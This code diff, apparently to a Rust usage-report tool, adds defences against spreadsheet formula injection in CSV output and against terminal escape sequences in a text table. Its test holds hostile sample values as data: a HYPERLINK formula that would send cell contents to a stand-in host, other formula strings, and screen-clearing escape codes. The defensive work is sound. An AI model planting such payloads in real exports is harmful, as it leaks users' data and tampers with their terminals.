@@ -77,8 +77,13 @@ fn body(s: &Summary) -> Vec<Vec<String>> {
 /// An aligned text table: keys left-aligned, numbers right-aligned, a rule above the totals.
 pub fn text(s: &Summary, period: &str) -> String {
     let head = header(s);
-    let rows = body(s);
     let keys = s.dims.len().max(1);
+    let mut rows = body(s);
+    for row in &mut rows {
+        for cell in row.iter_mut().take(keys) {
+            *cell = printable(cell);
+        }
+    }
     let mut widths: Vec<usize> = head.iter().map(|h| h.chars().count()).collect();
     for row in &rows {
         for (w, cell) in widths.iter_mut().zip(row) {
@@ -110,19 +115,34 @@ pub fn text(s: &Summary, period: &str) -> String {
     out
 }
 
-fn csv_cell(c: &str) -> String {
+/// One CSV field. A key that a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, a tab
+/// or a carriage return first) gets a leading `'`, so it is shown as text and never run: the
+/// model is what a client asked for, and a refused request's record keeps it.
+fn csv_cell(c: &str, key: bool) -> String {
+    let c = if key && c.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{c}") } else { c.to_owned() };
     if c.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", c.replace('"', "\"\""))
     } else {
-        c.to_owned()
+        c
     }
+}
+
+/// A key as the text table shows it: control characters (a terminal's escape sequences, line
+/// breaks) written as `\u{..}` escapes, so a key sent by a client cannot move the cursor, clear
+/// the screen or break the table's lines.
+fn printable(key: &str) -> String {
+    if !key.chars().any(char::is_control) {
+        return key.to_owned();
+    }
+    key.chars().map(|c| if c.is_control() { c.escape_unicode().to_string() } else { c.to_string() }).collect()
 }
 
 /// CSV with a header; the last line is the totals (`TOTAL` in the first column).
 pub fn csv(s: &Summary) -> String {
+    let keys = s.dims.len().max(1);
     std::iter::once(header(s))
         .chain(body(s))
-        .map(|row| row.iter().map(|c| csv_cell(c)).collect::<Vec<_>>().join(",") + "\n")
+        .map(|row| row.iter().enumerate().map(|(i, c)| csv_cell(c, i < keys)).collect::<Vec<_>>().join(",") + "\n")
         .collect()
 }
 
@@ -199,6 +219,36 @@ mod tests {
         assert_eq!(lines[1], "alice,1,0,10,20,0,0,30,0.500000,0,1000,-");
         assert_eq!(lines[2], "\"bob, \"\"the builder\"\"\",1,0,1,0,0,0,1,0.250000,0,-,-");
         assert_eq!(lines[3], "TOTAL,2,0,11,20,0,0,31,0.750000,0,1000,-");
+    }
+
+    /// A model is what a client asked for (a refused request's record keeps it): in a CSV
+    /// opened in a spreadsheet it must not run as a formula, and in a terminal it must not act
+    /// as an escape sequence.
+    #[test]
+    fn keys_a_client_chose_are_inert_in_csv_and_in_the_terminal() {
+        let lines = [
+            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"=HYPERLINK(\"http://x/?\"&A1,\"open\")","input_tokens":1}"#,
+            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"@SUM(1+1)","input_tokens":1}"#,
+            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"-2+3","input_tokens":1}"#,
+            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"\u001b[2J\u001b[31mred\nline","input_tokens":1}"#,
+            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"claude-sonnet-4-6","input_tokens":1}"#,
+        ];
+        let records: Vec<_> = lines.iter().map(|l| parse_line(l).unwrap()).collect();
+        let summary = summarize(&records, &[Dim::Model]);
+        let out = csv(&summary);
+        let firsts: Vec<String> = out.lines().skip(1).map(|l| l.split(',').next().unwrap().to_owned()).collect();
+        for first in &firsts {
+            let cell = first.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{first} in\n{out}");
+        }
+        assert!(out.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\""), "{out}");
+        assert!(out.contains("\n'@SUM(1+1),"), "{out}");
+        assert!(out.contains("\n'-2+3,"), "{out}");
+        assert!(out.contains("\nclaude-sonnet-4-6,"), "{out}");
+        let table = text(&summary, "all time");
+        assert!(!table.contains('\u{1b}'), "{table}");
+        assert!(table.contains("\\u{1b}[2J\\u{1b}[31mred\\u{a}line"), "{table}");
+        assert_eq!(table.lines().count(), 4 + 5 + 2, "one line per row: {table}");
     }
 
     #[test]
